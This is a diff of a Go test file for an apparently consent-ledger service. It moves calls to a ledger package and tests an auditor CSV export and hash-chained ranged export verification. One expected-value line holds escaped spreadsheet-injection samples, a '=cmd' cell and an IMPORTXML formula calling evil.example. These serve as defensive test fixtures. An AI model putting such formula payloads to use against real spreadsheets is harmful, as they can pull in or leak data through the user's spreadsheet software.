@@ -12,6 +12,8 @@ import (
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/consentry/consentry/capture/ledger"
 )
 
 // csvE164 is a phone number in E.164, the one kind of cell that may begin
@@ -67,7 +69,7 @@ func TestExportCSVForAuditors(t *testing.T) {
 	}
 	for name, want := range map[string]string{
 		"topics": "*", "reason": "'\t=cmd", "raw_text": `'=IMPORTXML("http://evil.example","//a") PARAR`,
-		"phone": "+5511987654321", "type": TypeOptOut,
+		"phone": "+5511987654321", "type": ledger.TypeOptOut,
 	} {
 		if got := out[col[name]]; got != want {
 			t.Errorf("opt-out %s = %q, want %q", name, got, want)
@@ -99,12 +101,12 @@ func TestRangedExportVerifies(t *testing.T) {
 	if len(lines) != 4 {
 		t.Fatalf("%d lines, want range + 2 events + checkpoint:\n%s", len(lines), body)
 	}
-	var first struct{ Range *exportRange }
+	var first struct{ Range *ledger.Range }
 	if err := json.Unmarshal([]byte(lines[0]), &first); err != nil || first.Range == nil ||
 		first.Range.FirstSeq != 3 || first.Range.PrevHash != ev[1].Hash {
 		t.Fatalf("first line %s, want the range from seq 3 continuing from %s", lines[0], ev[1].Hash)
 	}
-	rep, err := VerifyExportReport(bytes.NewReader(body), a.svc.PublicKey())
+	rep, err := ledger.VerifyExportReport(bytes.NewReader(body), a.svc.PublicKey())
 	if err != nil || rep.Events != 2 || rep.FirstSeq != 3 || rep.LastSeq != 4 || !rep.Pinned {
 		t.Fatalf("verify: %+v, %v", rep, err)
 	}
@@ -134,18 +136,18 @@ func TestRangedExportVerifies(t *testing.T) {
 
 	// Without its range line the file claims to be a full export.
 	cut := strings.Join(lines[1:], "\n") + "\n"
-	if _, err := VerifyExport(strings.NewReader(cut), ""); err == nil || err.(*VerifyError).Seq != 1 {
+	if _, err := ledger.VerifyExport(strings.NewReader(cut), ""); err == nil || err.(*ledger.VerifyError).Seq != 1 {
 		t.Fatalf("range without its first line: %v", err)
 	}
 	// A range that does not continue from the named hash fails.
 	forged := strings.Replace(string(body), ev[1].Hash, ev[0].Hash, 1)
-	if _, err := VerifyExport(strings.NewReader(forged), ""); err == nil {
+	if _, err := ledger.VerifyExport(strings.NewReader(forged), ""); err == nil {
 		t.Fatal("a range with a wrong prev_hash verified")
 	}
 	// An empty range verifies with no events.
 	future := time.Now().Add(time.Hour).UTC().Format(time.RFC3339)
 	body = a.do("GET", "/v1/consent/export?from="+future, fndAdminKey, nil).must(t, http.StatusOK)
-	if rep, err := VerifyExportReport(bytes.NewReader(body), ""); err != nil || rep.Events != 0 || !rep.Ranged {
+	if rep, err := ledger.VerifyExportReport(bytes.NewReader(body), ""); err != nil || rep.Events != 0 || !rep.Ranged {
 		t.Fatalf("empty range: %+v %v", rep, err)
 	}
 }
